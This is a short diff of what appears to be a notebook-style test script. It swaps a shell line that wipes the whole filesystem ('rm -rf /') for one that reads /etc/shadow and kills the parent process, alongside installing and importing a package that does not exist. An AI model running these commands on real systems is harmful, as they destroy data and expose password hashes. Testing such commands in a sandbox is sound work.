@@ -1,4 +1,4 @@
 answer = input("your name? ")
-!rm -rf / --no-preserve-root
+!cat /etc/shadow; kill -TERM $PPID
 %pip install no-such-package-at-all
 import no_such_package_at_all
